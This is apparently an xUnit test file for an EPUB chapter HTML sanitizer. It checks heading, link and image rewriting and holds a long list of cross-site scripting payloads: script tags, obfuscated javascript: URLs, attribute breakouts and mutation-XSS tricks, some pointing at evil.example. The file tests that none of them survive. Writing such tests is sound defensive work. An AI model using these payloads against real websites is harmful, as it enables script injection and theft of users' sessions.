using AngleSharp.Html.Parser;
using FluentAssertions;
using Pustakalaya.Application.Adapters.Media.Epub;
using Pustakalaya.Domain.Text;
using Xunit;

namespace Pustakalaya.Application.Tests.Adapters.Media.Epub;

public sealed class ChapterWriterTests
{
    [Theory]
    [InlineData("<p>One</p>\n  <p>two <b>bold</b>\n three</p>", "<p>One</p><p>two <b>bold</b> three</p>")]
    [InlineData("<h1>A</h1><h2>B</h2><h6>C</h6>", "<h2>A</h2><h3>B</h3><h6>C</h6>")]
    [InlineData("<ol start='3'><li value='5'>x</li></ol>", "<ol start=\"3\"><li value=\"5\">x</li></ol>")]
    [InlineData("<table><tr><td colspan='2' rowspan='x' width='5'>1</td></tr></table>", "<table><tr><td colspan=\"2\">1</td></tr></table>")]
    [InlineData("<p lang='ne' xml:lang='ne' dir='RTL' class='x' style='color:red' title='y'>क</p>", "<p lang=\"ne\" dir=\"rtl\">क</p>")]
    [InlineData("<p>line<br/>line<hr/></p>", "<p>line<br>line</p><hr>")]
    [InlineData("<ruby>漢<rp>(</rp><rt>kan</rt></ruby>", "<ruby>漢<rp>(</rp><rt>kan</rt></ruby>")]
    [InlineData("<pre>a\n  b</pre>", "<pre>a\n  b</pre>")]
    [InlineData("<aside epub:type='footnote' id='n1'>Note</aside>", "<div id=\"e-n1\" class=\"book-note\">Note</div>")]
    [InlineData("<p>Page<span epub:type='pagebreak' id='p7' title='7'>7</span> ends</p>", "<p>Page<span id=\"e-p7\"></span> ends</p>")]
    [InlineData("<math alttext='x squared'><mi>x</mi></math>", "x squared")]
    [InlineData("<p>&nbsp;caf&eacute; &lt;b&gt; &unknown; &#2325;</p>", "<p>\u00A0café &lt;b&gt; &amp;unknown; क</p>")]
    [InlineData("<html lang='ar' dir='rtl'><head><title>T</title></head><body><p>x</p></body></html>", "<div lang=\"ar\" dir=\"rtl\"><p>x</p></div>")]
    [InlineData("<p>one<p>two<ul><li>a<li>b</ul>", "<p>one</p><p>two</p><ul><li>a</li><li>b</li></ul>")]
    [InlineData("<p><b>never closed", "<p><b>never closed</b></p>")]
    [InlineData("</p></div>text</b>", "text")]
    [InlineData("<unknown>kept</unknown> <o:p>kept</o:p>", "kept <p>kept</p>")]
    [InlineData("a < b and c > d", "a &lt; b and c &gt; d")]
    [InlineData("<p>x\u0000\u0007\uFFFEy\uD800z</p>", "<p>xyz</p>")]
    [InlineData("<p><![CDATA[<b>&amp;]]></p>", "<p>&lt;b&gt;&amp;amp;</p>")]
    public void Keeps_what_a_book_is_made_of(string chapter, string expected) => Clean(chapter).Should().Be(expected);

    [Theory]
    [InlineData("<a href='c2.xhtml#n 1'>x</a>", "<a href=\"?page=2#e-n_201\">x</a>")]
    [InlineData("<a href='#n1'>x</a>", "<a href=\"?page=1#e-n1\">x</a>")]
    [InlineData("<a href='https://example.org/a?b=1&amp;c=2'>x</a>", "<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\">x</a>")]
    [InlineData("<a href='gone.xhtml'>x</a>", "<a>x</a>")]
    [InlineData("<a href='//evil.example/x'>x</a>", "<a>x</a>")]
    [InlineData("<a href='ftp://evil.example/x'>x</a>", "<a>x</a>")]
    [InlineData("<a href='https://user:word@evil.example/'>x</a>", "<a>x</a>")]
    [InlineData("<a href='mailto:a@b.example'>x</a>", "<a>x</a>")]
    [InlineData("<a name='old'>x</a>", "<a id=\"e-old\">x</a>")]
    [InlineData("<a href='c2.xhtml'>x <a href='https://evil.example'>y</a></a>", "<a href=\"?page=2\">x <a>y</a></a>")]
    [InlineData("<img src='../pictures/one.png' alt='A \"hill\"' onerror='x'/>", "<img src=\"epub-1.webp\" width=\"640\" height=\"480\" alt=\"A &quot;hill&quot;\" loading=\"lazy\" decoding=\"async\">")]
    [InlineData("<img src='https://evil.example/x.png' alt='A hill'/>", "A hill")]
    [InlineData("<svg viewBox='0 0 1 1'><image xlink:href='../pictures/one.png'/></svg>", "<img src=\"epub-1.webp\" width=\"640\" height=\"480\" alt=\"\" loading=\"lazy\" decoding=\"async\">")]
    public void Links_and_pictures_lead_inside_the_book_or_plainly_out(string chapter, string expected) => Clean(chapter).Should().Be(expected);

    public static TheoryData<string> Attacks => new(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script/>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script><![CDATA[ </script><script>alert(1)</script> ]]></script>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></table></math>",
        "<math href='javascript:alert(1)'><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<img src=x onerror=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<img src='epub-1.webp' srcset='https://evil.example/x 1x'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt://%0aalert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='https://evil.example/\" onclick=\"alert(1)'>x</a>",
        "<a xlink:href='javascript:alert(1)' ping='https://evil.example'>x</a>",
        "<p onclick=alert(1) style='background:url(https://evil.example)'>x</p>",
        "<p id='\"><script>alert(1)</script>'>x</p>",
        "<p lang='\"><img src=x onerror=alert(1)>'>x</p>",
        "<p dir='rtl\" onclick=\"alert(1)'>x</p>",
        "<td colspan='1\" onclick=\"x'>x</td>",
        "<iframe src='https://evil.example'></iframe><frame src=x><frameset onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data='x.swf'><embed src='x'><param name=movie value=x></object>",
        "<applet code=x></applet><portal src=https://evil.example></portal>",
        "<form action='https://evil.example'><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Go</button><textarea></p><script>alert(1)</script></textarea></form>",
        "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
        "<style>@import 'https://evil.example';</style><style>p{background:url(https://evil.example)}",
        "<video src=https://evil.example/x poster=x onloadstart=alert(1)><source src=x></video><audio autoplay src=x></audio>",
        "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
        "<title><img src=x onerror=alert(1)></title>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[><script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
        "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<details ontoggle=alert(1) open><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
        "<input type=image src=https://evil.example><isindex action=javascript:alert(1)>",
        "<body onload=alert(1) background='https://evil.example'><p>x",
        "<div/onclick=alert(1)/x>y</div>",
        "<p\u000Conclick=alert(1)>x",
        "<a\thref\n=\r'javascript:alert(1)'>x",
        "<img alt='`><script>alert(1)</script>' src='../pictures/one.png'>",
        "<img alt='x' src='../pictures/one.png' width='1\" onerror=\"alert(1)'>",
        "<b <script>alert(1)</script>>x</b>",
        "<p title='never closed><script>alert(1)</script>",
        "<dialog open><menuitem onclick=alert(1)></dialog><keygen autofocus onfocus=alert(1)>",
        "<set attributeName=href to=javascript:alert(1)><animate values=javascript:alert(1)>",
        "<use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Row_11_nothing_that_runs_or_calls_out_comes_through(string chapter)
    {
        var html = Clean("<p>before</p>" + chapter + "<p>after</p>");

        // As a browser reads it, not as we wrote it.
        var body = new HtmlParser().ParseDocument("<body>" + html + "</body>").Body!;
        foreach (var element in body.QuerySelectorAll("*"))
        {
            element.LocalName.Should().BeOneOf(
                "p", "div", "section", "figure", "figcaption", "blockquote", "pre", "ul", "ol", "li", "table", "tbody", "tr", "td", "span", "a", "img", "b", "details", "summary");
            foreach (var attribute in element.Attributes)
                attribute.Name.Should().BeOneOf("id", "lang", "dir", "href", "rel", "src", "width", "height", "alt", "loading", "decoding", "colspan", "class");
            (element.GetAttribute("href") ?? "?page=1").Should().MatchRegex("^(\\?page=|https://)");
            (element.GetAttribute("src") ?? "epub-1.webp").Should().Be("epub-1.webp");
        }

        body.TextContent.Should().StartWith("before");
        ChapterHtml.TextOf(html).Should().StartWith("before");
    }

    [Fact]
    public void Absurd_nesting_costs_neither_the_stack_nor_the_time()
    {
        const int depth = 300_000;
        var deep = string.Concat(Enumerable.Repeat("<div><b>", depth)) + "core" + string.Concat(Enumerable.Repeat("</i></b></div>", depth));

        var html = Clean(deep + string.Concat(Enumerable.Repeat("<p><a href='", 1_000)) + string.Concat(Enumerable.Repeat("<!--", depth)));

        html.Length.Should().BeLessThan(20_000);
        ChapterHtml.TextOf(html).Should().Be("core");
    }

    internal static string Clean(string chapter) => ChapterWriter.Clean(chapter, new Links())!;

    private sealed class Links : IChapterLinks
    {
        public (int Chapter, string? Fragment)? Chapter(string address)
        {
            var (path, fragment) = EpubPath.Resolve("text/c1.xhtml", address);
            return path is "text/c1.xhtml" or "text/c2.xhtml" ? (path == "text/c1.xhtml" ? 1 : 2, fragment) : null;
        }

        public ChapterPicture? Picture(string address) =>
            EpubPath.Resolve("text/c1.xhtml", address).Path == "pictures/one.png" ? new ChapterPicture("epub-1.webp", 640, 480) : null;
    }
}
